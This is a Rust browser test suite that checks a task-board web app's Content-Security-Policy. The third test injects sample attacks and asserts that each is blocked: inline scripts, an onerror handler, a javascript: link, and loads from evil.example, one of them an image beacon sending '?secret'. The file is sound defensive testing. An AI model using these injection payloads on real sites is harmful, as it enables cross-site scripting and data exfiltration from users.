//! Tests of the Content-Security-Policy in a real browser: the pages work under it, and foreign
//! scripts do not run.

use anyhow::{Context, Result};
use reqwest::Method;
use serde_json::{Value, json};
use tasktree_e2e::{Board, Browser, Server};

/// Script that collects the policy's violations, starting before the page's first script.
const WATCH: &str = "
    window.stopped = [];
    document.addEventListener('securitypolicyviolation', event =>
        window.stopped.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sourceFile}:${event.lineNumber} ${event.sample}`));";

/// Starts a desktop browser whose pages collect the policy's violations.
async fn watching() -> Result<Browser> {
    let browser = Browser::at_a_desk("en").await?;
    browser.before_every_page(WATCH).await?;
    Ok(browser)
}

/// Returns the violations on the current page.
async fn stopped(browser: &Browser) -> Result<Vec<String>> {
    Ok(serde_json::from_value(
        browser.run("return window.stopped;", vec![]).await?,
    )?)
}

#[tokio::test]
async fn the_board_does_nothing_that_its_policy_forbids() -> Result<()> {
    let server = Server::start().await?;
    // Long enough for a column to mount only some of its cards, with all possible content of a
    // card.
    let titles: Vec<_> = (0..80).map(|number| format!("Task {number}")).collect();
    let titles: Vec<_> = titles.iter().map(String::as_str).collect();
    let tasks = server.project_with_tasks("demo", &titles).await?;
    let text = json!({"description": "# A title\n\n**bold** `code`\n\n- [ ] one\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n![picture](https://example.com/a.png)\n\n<b style=\"color:red\" onclick=\"alert(1)\">raw</b>"});
    let path = format!("/api/projects/demo/tasks/{}", tasks[0]);
    server.call(Method::PUT, &path, Some(text)).await?;

    let board = Board::open_in(watching().await?, &server.url("/p/demo")).await?;
    board.until_in(&tasks[0], "unclaimed").await?;
    board.move_right(&tasks[0], 1).await?;
    board.until_in(&tasks[0], "up_next").await?;
    assert_eq!(stopped(&board.browser).await?, Vec::<String>::new());

    for path in ["/", "/p/demo/t/1", "/p/demo?q=task", "/no/such/page"] {
        board.browser.open(&server.url(path)).await?;
        board
            .browser
            .until(
                "the page is shown",
                "return !document.querySelector('#boot') && document.querySelector('h1, .task-drawer, .connection') !== null;",
                vec![],
            )
            .await?;
        if path.contains("/t/") {
            let shown =
                "return document.querySelector('.task-drawer')?.textContent.includes('A title');";
            board
                .browser
                .until("the drawer shows the text", shown, vec![])
                .await?;
        }
        assert_eq!(
            stopped(&board.browser).await?,
            Vec::<String>::new(),
            "{path}"
        );
    }
    Ok(())
}

#[tokio::test]
async fn the_page_of_the_api_does_nothing_that_its_policy_forbids() -> Result<()> {
    let server = Server::start().await?;
    let browser = watching().await?;
    browser.open(&server.url("/api/docs/")).await?;
    let shown = "return document.querySelectorAll('.opblock').length > 40;";
    browser
        .until("the operations are listed", shown, vec![])
        .await?;
    browser
        .run(
            "document.querySelector('.opblock-summary-control').click();",
            vec![],
        )
        .await?;
    let shown = "return document.querySelector('.opblock.is-open .try-out__btn') !== null;";
    browser.until("an operation opens", shown, vec![]).await?;
    assert_eq!(stopped(&browser).await?, Vec::<String>::new());
    Ok(())
}

#[tokio::test]
async fn what_is_injected_into_a_page_does_not_run_and_loads_nothing() -> Result<()> {
    let server = Server::start().await?;
    server.project_with_tasks("demo", &["One"]).await?;
    let board = Board::open_in(watching().await?, &server.url("/p/demo")).await?;
    let browser = &board.browser;
    let attacks = [
        (
            "an inline script",
            "const script = document.createElement('script');
             script.textContent = 'window.ran = true';
             document.body.append(script);",
            "script-src-elem: inline",
        ),
        (
            "an event handler",
            "const holder = document.createElement('div');
             holder.innerHTML = `<img src='data:,x' onerror='window.ran = true'>`;
             document.body.append(holder);",
            "script-src-attr: inline",
        ),
        (
            "a link that is a script",
            "const link = document.createElement('a');
             link.href = 'javascript:window.ran = true';
             document.body.append(link);
             link.click();",
            "script-src-elem: inline",
        ),
        (
            "a script of another site",
            "const script = document.createElement('script');
             script.src = 'https://evil.example/a.js';
             document.body.append(script);",
            "script-src-elem: https://evil.example/a.js",
        ),
        (
            "a frame",
            "const frame = document.createElement('iframe');
             frame.src = 'https://evil.example/';
             document.body.append(frame);",
            "frame-src: https://evil.example",
        ),
        (
            "a picture that tells another site",
            "new Image().src = 'https://evil.example/?secret';",
            "img-src: https://evil.example",
        ),
        (
            "a request to another site",
            "fetch('https://evil.example/').catch(() => {});",
            "connect-src: https://evil.example",
        ),
        (
            "a socket to another site",
            "try { new WebSocket('wss://evil.example/'); } catch (_) {}",
            "connect-src: wss://evil.example",
        ),
        (
            "a style attribute",
            "document.body.setAttribute('style', 'display: none');",
            "style-src-attr: inline",
        ),
    ];
    for (what, script, report) in attacks {
        browser
            .run(&format!("window.stopped.length = 0; {script}"), vec![])
            .await?;
        let reported = "return window.stopped.some(entry => entry.startsWith(arguments[0]));";
        browser
            .until(
                &format!("the policy stops {what}"),
                reported,
                vec![json!(report)],
            )
            .await
            .with_context(|| what.to_owned())?;
        let ran = browser.run("return window.ran ?? null;", vec![]).await?;
        assert_eq!(ran, Value::Null, "{what} ran");
    }
    // The policy stopped them: the page itself may add scripts, and this is one that the policy
    // names.
    let own = "
        const page = await (await fetch('/')).text();
        const parsed = new DOMParser().parseFromString(page, 'text/html');
        const first = [...parsed.scripts].find(script => !script.src && script.type !== 'module');
        document.documentElement.lang = 'xx';
        const script = document.createElement('script');
        script.textContent = first.textContent;
        document.body.append(script);
        return document.documentElement.lang;";
    assert_eq!(browser.run(own, vec![]).await?, "en");
    Ok(())
}
